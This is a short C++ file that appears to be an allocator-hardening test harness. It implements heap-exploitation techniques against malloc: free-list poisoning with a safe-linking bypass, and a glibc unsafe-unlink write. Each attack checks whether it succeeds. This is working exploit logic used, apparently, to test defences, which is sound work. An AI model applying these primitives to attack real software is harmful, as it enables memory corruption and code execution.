// Goal: malloc returns an address of the attacker's choice. COUNT: allocations of the attacker.
#include "tools/attacks/attack.h"

alignas(64) uintptr_t target[64];

// Writes `target` as the link of freed blocks, hidden by the page number of the block if that is
// how the allocator does it and the attacker knows the heap.
Verdict Forge(unsigned shift) {
  static char* blocks[64];
  for (char*& block : blocks) block = Get();
  for (char* block : blocks) free(block);
  for (char* block : blocks) {
    const uintptr_t place = shift == 0 ? 0 : reinterpret_cast<uintptr_t>(block) >> shift;
    Words(block)[0] = Words(block)[1] = reinterpret_cast<uintptr_t>(target) ^ place;
  }
  for (size_t i = 0; i < kCount; ++i) {
    if (Get() == reinterpret_cast<char*>(target)) return kSucceeded;
  }
  return kFailed;
}
Verdict Link() { return Forge(0); }
Verdict HiddenLink() { return Forge(12); }

// Unsafe unlink: a forged free chunk within a block and a forged header behind it make glibc write
// into the variable that points to the block.
uintptr_t* variable;
Verdict Unlink() {
  variable = Words(Get());
  char* next = Get();
  Get(16);
  const auto address = reinterpret_cast<uintptr_t>(&variable);
  variable[1] = kSize;
  variable[2] = address - 24;
  variable[3] = address - 16;
  Words(next)[-2] = kSize;
  Words(next)[-1] &= ~uintptr_t{1};
  free(next);
  return reinterpret_cast<uintptr_t>(variable) == address - 24 ? kSucceeded : kFailed;
}
